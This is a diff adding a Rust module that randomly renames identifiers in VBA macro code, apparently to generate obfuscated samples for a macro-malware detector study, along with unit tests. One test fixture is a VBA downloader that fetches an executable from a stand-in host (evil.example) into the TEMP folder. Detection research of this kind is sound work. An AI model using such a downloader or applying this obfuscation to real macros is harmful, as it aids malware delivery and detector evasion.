@@ -1,0 +1,105 @@
+//! O1 — Random obfuscation: replace user identifiers with random strings
+//! (paper §III.B.1, Figure 2).
+
+use crate::names;
+use rand::Rng;
+use std::collections::{HashMap, HashSet};
+
+/// Applies O1 to `source`, returning the transformed code and the rename map
+/// (lowercased original → new name).
+pub fn apply<R: Rng + ?Sized>(source: &str, rng: &mut R) -> (String, HashMap<String, String>) {
+    apply_fraction(source, 1.0, rng)
+}
+
+/// Applies O1 to a random subset of the renameable identifiers: real
+/// obfuscators (and hurried attackers) frequently rename only the payload's
+/// variables, leaving template code readable. `fraction` ∈ [0, 1].
+pub fn apply_fraction<R: Rng + ?Sized>(
+    source: &str,
+    fraction: f64,
+    rng: &mut R,
+) -> (String, HashMap<String, String>) {
+    let targets = names::renameable_identifiers(source);
+    let mut taken: HashSet<String> =
+        targets.iter().map(|n| n.to_ascii_lowercase()).collect();
+    let mut map = HashMap::with_capacity(targets.len());
+    for name in &targets {
+        if fraction < 1.0 && !rng.gen_bool(fraction.clamp(0.0, 1.0)) {
+            continue;
+        }
+        let new_name = names::random_identifier(rng, &mut taken);
+        map.insert(name.to_ascii_lowercase(), new_name);
+    }
+    (names::apply_renames(source, &map), map)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use rand::rngs::StdRng;
+    use rand::SeedableRng;
+    use vbadet_vba::{tokenize, TokenKind};
+
+    const SRC: &str = "Sub DownloadFile()\r\n\
+        Dim remoteUrl As String\r\n\
+        Dim localPath As String\r\n\
+        remoteUrl = \"http://evil.example/x.exe\"\r\n\
+        localPath = Environ(\"TEMP\") & \"\\x.exe\"\r\n\
+        URLDownloadToFile 0, remoteUrl, localPath, 0, 0\r\n\
+        End Sub\r\n";
+
+    #[test]
+    fn all_user_identifiers_are_renamed() {
+        let mut rng = StdRng::seed_from_u64(42);
+        let (out, map) = apply(SRC, &mut rng);
+        assert!(!out.contains("remoteUrl"));
+        assert!(!out.contains("localPath"));
+        assert!(!out.contains("DownloadFile"));
+        assert_eq!(map.len(), 3);
+        // Builtins survive.
+        assert!(out.contains("URLDownloadToFile"));
+        assert!(out.contains("Environ"));
+        // Strings survive.
+        assert!(out.contains("http://evil.example/x.exe"));
+    }
+
+    #[test]
+    fn token_structure_is_preserved() {
+        let mut rng = StdRng::seed_from_u64(9);
+        let (out, _) = apply(SRC, &mut rng);
+        let before = tokenize(SRC);
+        let after = tokenize(&out);
+        assert_eq!(before.len(), after.len());
+        for (b, a) in before.iter().zip(after.iter()) {
+            match (&b.kind, &a.kind) {
+                (TokenKind::Identifier(_), TokenKind::Identifier(_)) => {}
+                (x, y) => assert_eq!(x, y, "non-identifier tokens must be untouched"),
+            }
+        }
+    }
+
+    #[test]
+    fn consistent_within_module() {
+        let mut rng = StdRng::seed_from_u64(5);
+        let src = "Sub A()\r\nDim x\r\nx = 1\r\nx = x + 1\r\nEnd Sub\r\n";
+        let (out, map) = apply(src, &mut rng);
+        let new_x = &map["x"];
+        assert_eq!(out.matches(new_x.as_str()).count(), 4);
+    }
+
+    #[test]
+    fn deterministic_for_same_seed() {
+        let a = apply(SRC, &mut StdRng::seed_from_u64(123)).0;
+        let b = apply(SRC, &mut StdRng::seed_from_u64(123)).0;
+        assert_eq!(a, b);
+    }
+
+    #[test]
+    fn entry_point_names_survive() {
+        let src = "Sub Document_Open()\r\nCall Work\r\nEnd Sub\r\nSub Work()\r\nEnd Sub\r\n";
+        let mut rng = StdRng::seed_from_u64(2);
+        let (out, _) = apply(src, &mut rng);
+        assert!(out.contains("Document_Open"));
+        assert!(!out.contains("Work"));
+    }
+}
